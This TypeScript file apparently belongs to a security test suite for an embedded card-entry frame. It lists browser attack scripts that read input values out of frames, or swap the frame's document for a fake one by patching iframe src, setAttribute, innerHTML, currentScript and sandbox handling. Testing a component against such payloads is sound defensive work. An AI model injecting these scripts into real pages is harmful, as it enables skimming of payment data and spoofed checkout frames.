/** The frame: found by index or name, renamed, navigated, rewritten on its way into the page. */
import { WITHOUT_POPUPS, type Attack } from '../attack.ts';

export const FRAMES: readonly Attack[] = [
  {
    id: 'fr-index',
    what: 'walks window.frames and window[name], and reads into what it finds',
    aim: 'reading',
    control: 'reads',
    script: `moment(() => {
        const look = (target) => { try { for (const input of target.document.querySelectorAll('input')) steal(input.value); } catch { /* another origin */ } };
        for (let at = 0; at < window.length; at += 1) { look(window.frames[at]); for (let inner = 0; inner < window.frames[at].length; inner += 1) look(window.frames[at][inner]); }
        for (const name of Object.getOwnPropertyNames(window)) { if (/card|frame|shoji|hosted|vault|fields/i.test(name)) { try { look(window[name]); } catch { /* denied */ } } }
        for (const frame of document.querySelectorAll('iframe')) look(frame.contentWindow);
        for (const element of document.getElementsByName('')) seize(element, 'read');
      });`,
  },
  {
    id: 'fr-open',
    what: 'opens windows by every name a frame could have, and puts a document of its own into those that are frames',
    aim: 'replacement',
    control: 'replaces',
    alone: true,
    differs: true,
    pagePolicy: WITHOUT_POPUPS,
    script: `moment(() => {
        for (const name of ['naive-again', 'shoji-card', 'shoji', 'card', 'hosted', 'vault', 'fields', 'shoji-vault', 'card-fields']) {
          let found = null;
          try { found = window.open('', name); } catch { /* blocked */ }
          if (!found) continue;
          found.location = FAKE;
        }
      });`,
  },
  {
    id: 'fr-target',
    what: 'navigates frames by name with links and forms',
    aim: 'replacement',
    control: 'replaces',
    alone: true,
    script: `whenHosts(() => setTimeout(() => {
        for (const target of ['naive-again', '_self']) {
          if (target === '_self') continue;
          const link = document.body.appendChild(document.createElement('a'));
          Object.assign(link, { href: FAKE, target, textContent: 'more' });
          link.tabIndex = -1;
          link.click();
        }
        for (const host of document.querySelectorAll('shoji-card')) for (const name of host.getAttributeNames()) {
          const target = host.getAttribute(name);
          if (!target || target.startsWith('_') || document.querySelector('iframe[name="' + CSS.escape(target) + '"]')) continue;
          const form = document.body.appendChild(document.createElement('form'));
          Object.assign(form, { action: FAKE, target: 'naive-frame', method: 'get' });
          form.submit();
          break;
        }
      }, 0));`,
  },
  {
    id: 'fr-srcrewrite',
    what: 'patches src, srcdoc and setAttribute of frames, so that its own document is loaded in place of ours',
    aim: 'replacement',
    control: 'replaces',
    alone: true,
    script: `const setAttribute = Element.prototype.setAttribute;
      Element.prototype.setAttribute = function (name, value) { return setAttribute.call(this, name, this instanceof HTMLIFrameElement && name === 'src' ? FAKE : value); };
      for (const name of ['src', 'srcdoc']) {
        const { get, set } = Object.getOwnPropertyDescriptor(HTMLIFrameElement.prototype, name);
        Object.defineProperty(HTMLIFrameElement.prototype, name, { configurable: true, get, set() { setAttribute.call(this, 'src', FAKE); } });
      }`,
  },
  {
    id: 'fr-address',
    what: 'gives the element another address after it began, by its attribute and by a base for the page, and puts it back into the page',
    aim: 'replacement',
    control: 'replaces',
    alone: true,
    script: `whenHosts(() => {
        document.head.prepend(Object.assign(document.createElement('base'), { href: FAKE + '/' }));
        for (const host of hosts()) {
          for (const name of ['hosted-url', 'src']) host.setAttribute(name, FAKE);
          host.hostedUrl = FAKE;
          const parent = host.parentNode, after = host.nextSibling;
          if (parent.moveBefore) { try { parent.moveBefore(host, after); } catch { /* refused */ } }
          host.remove();
          parent.insertBefore(host, after);
        }
        document.querySelector('base').remove();
      });`,
  },
  {
    id: 'fr-script',
    what: 'claims another address for our script while it is evaluated, so that the document beside it is the attacker’s',
    aim: 'replacement',
    control: 'replaces',
    alone: true,
    only: 'before',
    script: `const { get } = Object.getOwnPropertyDescriptor(Document.prototype, 'currentScript');
      Object.defineProperty(document, 'currentScript', { configurable: true, get() {
        const script = get.call(document);
        return script ? Object.assign(document.createElement('script'), { src: FAKE + '/a/b/script.js' }) : script;
      } });`,
  },
  {
    id: 'fr-sandbox',
    what: 'strips sandbox, allow and referrerpolicy from frames on their way into the page, then reads into them',
    aim: 'replacement',
    control: 'reads',
    alone: 'before',
    script: `const setAttribute = Element.prototype.setAttribute;
      Element.prototype.setAttribute = function (name, value) {
        if (this instanceof HTMLIFrameElement) {
          if (name === 'sandbox' || name === 'allow' || name === 'referrerpolicy') return undefined;
          seize(this, 'read');
        }
        return setAttribute.call(this, name, value);
      };
      const { set } = Object.getOwnPropertyDescriptor(HTMLIFrameElement.prototype, 'sandbox');
      void set;
      Object.defineProperty(HTMLIFrameElement.prototype, 'sandbox', { configurable: true, get: () => '', set: () => undefined });`,
  },
  {
    id: 'fr-race',
    what: 'puts a document of its own into the frame before ours has come, which then answers as ours would',
    aim: 'replacement',
    control: 'replaces',
    alone: true,
    script: `patch(Element.prototype, 'attachShadow', (self, values, root) => raid(root, 'at-once'));`,
  },
  {
    id: 'fr-rename',
    what: 'gives the frame a name as it is made, then finds it by that name and navigates it',
    aim: 'replacement',
    control: 'replaces',
    alone: true,
    pagePolicy: WITHOUT_POPUPS,
    script: `const original = Document.prototype.createElement;
      const names = [];
      Document.prototype.createElement = function (...values) {
        const element = original.apply(this, values);
        if (!(element instanceof HTMLIFrameElement)) return element;
        element.name = 'renamed-' + 'abcdef'[names.length % 6];
        names.push(element.name);
        return element;
      };
      whenHosts(() => setTimeout(() => { for (const name of names) {
        const found = window.open('', name);
        if (found) found.location = FAKE;
      } }, 0));`,
  },
  {
    id: 'fr-template',
    what: 'patches innerHTML and templates, so that frames in them load its own document',
    aim: 'replacement',
    control: 'replaces',
    alone: true,
    script: `const rewrite = (html) => String(html).replace(/(<iframe[^>]*\\ssrc=")[^"]*/g, (_, start) => start + FAKE);
      for (const [owner, name] of [[Element.prototype, 'innerHTML'], [ShadowRoot.prototype, 'innerHTML'], [Element.prototype, 'outerHTML']]) {
        const { get, set } = Object.getOwnPropertyDescriptor(owner, name);
        Object.defineProperty(owner, name, { configurable: true, get, set(html) { set.call(this, rewrite(html)); } });
      }
      const insert = Element.prototype.insertAdjacentHTML;
      Element.prototype.insertAdjacentHTML = function (where, html) { return insert.call(this, where, rewrite(html)); };
      const importNode = Document.prototype.importNode;
      Document.prototype.importNode = function (node, deep) {
        const copy = importNode.call(this, node, deep);
        for (const frame of copy.querySelectorAll?.('iframe') ?? []) frame.setAttribute('src', FAKE);
        return copy;
      };`,
  },
];
